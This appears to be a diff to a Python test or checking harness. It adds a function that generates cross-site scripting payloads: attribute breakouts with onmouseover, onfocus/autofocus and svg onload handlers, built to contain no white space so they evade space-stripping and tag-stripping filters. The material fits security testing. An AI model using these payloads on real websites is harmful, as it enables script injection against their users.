@@ -32,6 +32,7 @@ __all__ = [
     "instance",
     "main",
     "passed",
+    "spaceless_breakouts",
     "token",
     "xss_hits",
 ]
@@ -203,6 +204,28 @@ class App:
 
     def post(self, path: str, **kwargs: object) -> Response:
         return self.request("POST", path, **kwargs)  # type: ignore[arg-type]
+
+
+def spaceless_breakouts(script: str, lead: str = "x") -> list[str]:
+    """Values that leave an attribute value after ``lead`` and add handlers running ``script``
+    (which holds no white space and no quote; a ``str.format`` shape such as ``{m}()`` passes
+    through), with no white space and no '<' in them.
+
+    Out of a double- or single-quoted value, the quote is followed directly by the next
+    attribute, or by '/' (both end an attribute name as a space does); the page's own closing
+    quote ends the last value. An unquoted value ends at a form feed, HTML white space that code
+    deleting or replacing spaces, tabs and line breaks leaves in place; or at '>', before a new
+    element. For code that turns spaces into '+' or '%20', deletes or refuses white space, or
+    strips tags (strip_tags, <[^>]*>) before writing the value into an attribute.
+    """
+    return [
+        f'{lead}"onmouseover="{script}"onfocus="{script}"autofocus="',
+        f"{lead}'onmouseover='{script}'onfocus='{script}'autofocus='",
+        f'{lead}"/onfocus="{script}"/autofocus/onmouseover="{script}',
+        f"{lead}'/onfocus='{script}'/autofocus/onmouseover='{script}",
+        f"{lead}\fonmouseover={script}\fautofocus\fonfocus={script}",
+        f"{lead}><svg/onload={script}>",
+    ]
 
 
 _URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
